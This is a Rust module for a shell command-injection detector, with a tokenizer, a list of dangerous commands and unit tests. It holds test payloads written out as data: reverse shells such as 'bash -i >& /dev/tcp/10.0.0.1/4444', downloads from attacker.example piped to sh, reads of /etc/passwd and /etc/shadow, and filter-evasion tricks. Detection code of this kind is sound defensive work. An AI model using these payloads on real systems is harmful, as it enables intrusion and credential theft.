//! Command injection by grammar: does the value change the token structure of a shell command
//! it is pasted into? The value is read as a POSIX shell (and cmd.exe) would after quote
//! removal and `$IFS` expansion, and it is an injection when an operator that starts a new
//! command (`;`, `|`, `&&`, `||`, `$(`, backticks, a newline) is followed by a real command in
//! a working shape: with no arguments where it works alone (`; id`), or with arguments that
//! look like a shell's (flags, paths, hosts, numbers, variables, redirections). Prose with
//! semicolons, ampersands and Markdown code spans does not take that shape.

use super::{Found, Strictness};

#[derive(Debug, Clone, Copy, PartialEq)]
enum Sep {
    /// `;`, `|`, `&&`, `||`, `$(`, `<(`: nothing else starts a command there.
    Hard,
    /// A single `&` (also the word "and" in prose) or a newline (multi-line text): only
    /// commands that are not English words, or arguments no prose has, count.
    Soft,
    /// A newline: multi-line text often quotes commands; only dangerous ones count, and none
    /// in Markdown with code fences.
    Newline,
    /// A backtick span with space or punctuation outside it: Markdown code, unless the field
    /// is known to reach a shell.
    Markdown,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Shape {
    /// Works with no arguments and is not an English word used alone (`id`, `whoami`).
    Alone,
    /// Needs arguments that look like a shell's (`cat /etc/passwd`, `sleep 10`).
    Args,
    /// A shell, interpreter, downloader or network tool: dangerous with any arguments.
    Dangerous,
}

fn command(word: &str) -> Option<Shape> {
    let name = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .trim_end_matches(".exe");
    let lower = name.to_ascii_lowercase();
    // Windows commands are case-insensitive; POSIX ones are not (`ID` is not `id`).
    match lower.as_str() {
        "whoami" | "ipconfig" | "systeminfo" | "tasklist" | "netstat" | "ifconfig" | "hostname" => {
            return Some(Shape::Alone)
        }
        "powershell" | "pwsh" | "certutil" | "bitsadmin" | "wmic" | "mshta" | "rundll32"
        | "regsvr32" | "cscript" | "wscript" => return Some(Shape::Dangerous),
        _ => {}
    }
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match base {
        "id" | "uname" | "ls" | "env" | "printenv" | "pwd" | "ps" | "w" | "last" | "lsof"
        | "dir" => Shape::Alone,
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "ash" | "busybox" | "python"
        | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "curl" | "wget" | "nc" | "ncat"
        | "netcat" | "socat" | "telnet" | "mkfifo" | "mknod" | "openssl" | "xterm" | "nslookup"
        | "tftp" | "ftp" | "scp" | "ssh" | "sudo" | "crontab" | "nohup" | "base64" | "xxd"
        | "chmod" | "chown" | "useradd" | "awk" | "gawk" | "xargs" | "timeout" | "exec"
        | "eval" | "cmd" => Shape::Dangerous,
        "cat" | "tac" | "head" | "tail" | "more" | "less" | "rm" | "cp" | "mv" | "touch"
        | "echo" | "printf" | "sleep" | "ping" | "dig" | "host" | "kill" | "pkill" | "find"
        | "grep" | "sed" | "tar" | "zip" | "unzip" | "dd" | "date" | "type" | "net" | "reg"
        | "whois" | "traceroute" | "tee" | "source" | "export" | "set" | "su" | "passwd" | "wc"
        | "sort" | "od" | "strings" | "file" | "stat" | "mount" | "ip" | "arp" | "route"
        | "iptables" | "systemctl" | "service" | "aws" | "java" | "mysql" | "psql" | "sqlite3"
        | "git" | "nmap" => Shape::Args,
        _ => return None,
    })
}

/// A first argument a shell user would type: a flag, path, variable, number, host or address,
/// redirection or quote.
fn shell_shaped(arg: &str) -> bool {
    let b = arg.as_bytes();
    if b.is_empty() {
        return false;
    }
    if matches!(
        b[0],
        b'-' | b'/' | b'$' | b'~' | b'>' | b'<' | b'.' | b'*' | b'+'
    ) {
        return true;
    }
    if arg.contains(['/', '\\', '=', '*']) {
        return true;
    }
    if b.iter()
        .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b':')
    {
        return true;
    }
    // `attacker.example`, `10.0.0.1`
    let parts: Vec<&str> = arg.split('.').collect();
    parts.len() >= 2
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
        && parts
            .last()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().any(|c| c.is_ascii_alphabetic()))
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Word(String, usize),
    Sep(Sep, usize),
    /// A redirection or the end of a substitution: a command may stop there.
    Stop,
}

/// The value as the shell splits it, with quotes removed, `\x` unescaped, `$IFS` read as a
/// space and empty expansions (`$@`, `${x}` of unset names) dropped.
fn tokens(s: &str, strict: bool) -> Vec<Tok> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut word = String::new();
    let mut word_start = 0;
    let mut quote: Option<u8> = None;
    let mut i = 0;
    let flush = |word: &mut String, start: usize, out: &mut Vec<Tok>| {
        if !word.is_empty() {
            out.push(Tok::Word(std::mem::take(word), start));
        }
    };
    while i < b.len() {
        let c = b[i];
        if let Some(q) = quote {
            if c == q {
                quote = None;
            } else if q == b'"' && c == b'$' && b.get(i + 1) == Some(&b'(') {
                flush(&mut word, word_start, &mut out);
                out.push(Tok::Sep(Sep::Hard, i));
                i += 2;
                continue;
            } else {
                if word.is_empty() {
                    word_start = i;
                }
                push_char(&mut word, s, i);
            }
            i += utf8_len(c);
            continue;
        }
        // `$IFS`, `${IFS}`, `$IFS$9`: a space; `$@`, `$*`, `$1`: nothing.
        if c == b'$' {
            let rest = &s[i..];
            if let Some(len) = ["${IFS}", "$IFS"]
                .iter()
                .find_map(|p| rest.starts_with(p).then_some(p.len()))
            {
                flush(&mut word, word_start, &mut out);
                i += len;
                continue;
            }
            if matches!(b.get(i + 1), Some(b'@' | b'*' | b'0'..=b'9')) {
                i += 2;
                continue;
            }
            if b.get(i + 1) == Some(&b'(') && b.get(i + 2) != Some(&b'(') {
                flush(&mut word, word_start, &mut out);
                out.push(Tok::Sep(Sep::Hard, i));
                i += 2;
                continue;
            }
        }
        match c {
            b'\'' | b'"' => {
                quote = Some(c);
                if word.is_empty() {
                    word_start = i;
                }
                i += 1;
            }
            b'\\' if i + 1 < b.len() && b[i + 1] != b'\n' => {
                if word.is_empty() {
                    word_start = i;
                }
                push_char(&mut word, s, i + 1);
                i += 1 + utf8_len(b[i + 1]);
            }
            b' ' | b'\t' | b'\r' => {
                flush(&mut word, word_start, &mut out);
                i += 1;
            }
            b';' | b'|' | b'\n' => {
                flush(&mut word, word_start, &mut out);
                let sep = if c == b'\n' { Sep::Newline } else { Sep::Hard };
                out.push(Tok::Sep(sep, i));
                i += if b.get(i + 1) == Some(&c) { 2 } else { 1 };
            }
            b'&' => {
                flush(&mut word, word_start, &mut out);
                if b.get(i + 1) == Some(&b'&') {
                    out.push(Tok::Sep(Sep::Hard, i));
                    i += 2;
                } else if i > 0 && b[i - 1] == b'>' {
                    // `>&` redirection
                    i += 1;
                } else {
                    out.push(Tok::Sep(Sep::Soft, i));
                    i += 1;
                }
            }
            b'`' => {
                flush(&mut word, word_start, &mut out);
                // A code span in Markdown has space or punctuation outside its backticks; a
                // substitution is glued to a word (`a`id`b`) or is the whole value.
                let glued = i > 0 && is_word_byte(b[i - 1]);
                let whole =
                    s.trim().starts_with('`') && s.trim().ends_with('`') && s.trim().len() > 2;
                let fence = b.get(i + 1) == Some(&b'`');
                if fence {
                    while i < b.len() && b[i] == b'`' {
                        i += 1;
                    }
                    continue;
                }
                let sep = if glued || whole || strict {
                    Sep::Hard
                } else {
                    Sep::Markdown
                };
                out.push(Tok::Sep(sep, i));
                i += 1;
            }
            b'(' | b')' | b'>' | b'<' => {
                flush(&mut word, word_start, &mut out);
                if c == b'<' || c == b'>' {
                    if b.get(i + 1) == Some(&b'(') {
                        out.push(Tok::Sep(Sep::Hard, i));
                        i += 2;
                        continue;
                    }
                    out.push(Tok::Word(">".into(), i));
                } else if c == b')' {
                    out.push(Tok::Stop);
                }
                i += 1;
            }
            b'{' => {
                // Brace expansion `{cat,/etc/passwd}` runs as `cat /etc/passwd`.
                let close = b[i..].iter().take(256).position(|&x| x == b'}');
                match close {
                    Some(e) if b[i..i + e].contains(&b',') && !b[i..i + e].contains(&b' ') => {
                        flush(&mut word, word_start, &mut out);
                        for part in s[i + 1..i + e].split(',') {
                            if !part.is_empty() {
                                out.push(Tok::Word(part.to_string(), i));
                            }
                        }
                        i += e + 1;
                    }
                    _ => {
                        if word.is_empty() {
                            word_start = i;
                        }
                        word.push('{');
                        i += 1;
                    }
                }
            }
            _ => {
                if word.is_empty() {
                    word_start = i;
                }
                push_char(&mut word, s, i);
                i += utf8_len(c);
            }
        }
    }
    flush(&mut word, word_start, &mut out);
    out
}

fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'=' || c == b'/' || c == b'.'
}

fn utf8_len(first: u8) -> usize {
    match first {
        0..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf7 => 4,
        _ => 1,
    }
}

fn push_char(word: &mut String, s: &str, at: usize) {
    if let Some(c) = s.get(at..).and_then(|r| r.chars().next()) {
        word.push(c);
    }
}

pub fn detect(value: &str, strictness: Strictness) -> Option<Found> {
    if !value.contains([';', '|', '&', '\n', '`', '$', '(', '<', '>']) {
        return None;
    }
    let strict = strictness == Strictness::Sink;
    // Pasted bare, or inside the command's single or double quotes (the value's first quote
    // of that kind then closes them).
    for context in ["", "'", "\""] {
        if !context.is_empty() && !value.contains(context) {
            continue;
        }
        let placed = format!("{context}{value}");
        if let Some(at) = in_context(&placed, strict) {
            let at = at.saturating_sub(context.len());
            return Some(found(value, at, "a shell operator followed by a command"));
        }
    }
    None
}

fn in_context(value: &str, strict: bool) -> Option<usize> {
    let t = tokens(value, strict);
    for (n, tok) in t.iter().enumerate() {
        let Tok::Sep(sep, at) = *tok else { continue };
        let Some(Tok::Word(cmd, _)) = t.get(n + 1) else {
            continue;
        };
        let Some(shape) = command(cmd) else {
            if strict
                && sep == Sep::Hard
                && cmd.bytes().all(|c| {
                    c.is_ascii_alphanumeric() || c == b'_' || c == b'-' || c == b'/' || c == b'.'
                })
            {
                return Some(at);
            }
            continue;
        };
        let arg = match t.get(n + 2) {
            Some(Tok::Word(w, _)) => Some(w.as_str()),
            _ => None,
        };
        let fits = match (shape, arg) {
            (Shape::Dangerous, None) => true,
            (Shape::Alone, None) => true,
            (_, Some(a)) => shell_shaped(a) || (shape == Shape::Alone && a.starts_with('-')),
            (Shape::Args, None) => false,
        };
        let english = matches!(
            cmd.as_str(),
            "id" | "ls" | "env" | "pwd" | "ps" | "w" | "last" | "dir"
        );
        let unmistakable = arg.is_some_and(|a| a.starts_with(['-', '/', '$']) || a.contains('/'));
        let counts = fits
            && match sep {
                Sep::Hard => true,
                Sep::Soft => {
                    unmistakable
                        || shape == Shape::Dangerous && arg.is_some_and(shell_shaped)
                        || shape == Shape::Alone && arg.is_none() && !english
                }
                Sep::Newline => {
                    shape == Shape::Dangerous
                        && arg.is_some_and(shell_shaped)
                        && !value.contains("```")
                }
                Sep::Markdown => false,
            };
        if counts {
            return Some(at);
        }
    }
    None
}

fn found(value: &str, at: usize, what: &'static str) -> Found {
    Found::new(
        "shell-grammar",
        "command-injection",
        what,
        value,
        at.saturating_sub(8),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        detect(v, Strictness::Generic).is_some()
    }

    #[test]
    fn injections() {
        for v in [
            "report.pdf; cat /etc/passwd",
            "x && curl http://attacker.example/x.sh | sh",
            "file.txt | whoami",
            "a`id`b",
            "`id`",
            "$(wget -q -O- attacker.example)",
            "name;id",
            "|| ping -c 10 10.0.0.1",
            "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "foo\nnc -e /bin/sh 10.0.0.1 4444",
            "x;${IFS}cat${IFS}/etc/shadow",
            "img.png & powershell -enc SQBFAFgA",
            "; sleep 10",
            "test$(sleep 5)",
            "x | base64 -d | sh",
            "x;c'a't /e\"t\"c/pas's'wd",
            "x;c\\at /etc/passwd",
            "x;{cat,/etc/passwd}",
            "a; /bin/cat /etc/passwd",
            "x|/usr/bin/id",
            "a & whoami",
            "x\"; id; \"",
            "a;$@cat /etc/passwd",
            "x; python3 -c 'import os'",
            "x & ping -n 5 127.0.0.1",
        ] {
            assert!(hit(v), "missed: {v}");
        }
    }

    #[test]
    fn prose() {
        for v in [
            "passport & ID",
            "passport & id",
            "; update user settings",
            "Use `ls -la` to list files",
            "Run `whoami`, then `id` in a shell",
            "```\nls -la\n```",
            "Meeting at 10; bring id card",
            "Tom & Jerry | the complete series",
            "email me at a@b.co; or call",
            "Price: $(19.99) after discount",
            "curl is a tool I like",
            "ls -la is a command I typed once in class",
            "rm is short for room",
            "I like tools; curl is great",
            "Enough; sleep",
            "The dog; cat food",
            "Where's the cat? Cat is sleeping; dogs are barking.",
            "echo chamber",
            "Hello\nls is short for list",
            "D'Angelo & Sons; est. 1952",
            "Fish & chips; echo of the sea",
        ] {
            assert!(
                !hit(v),
                "false positive: {v}: {:?}",
                detect(v, Strictness::Generic)
            );
        }
    }

    #[test]
    fn strict_fields_take_any_command() {
        assert!(detect("x; frobnicate", Strictness::Sink).is_some());
        assert!(detect("x; frobnicate", Strictness::Generic).is_none());
    }
}
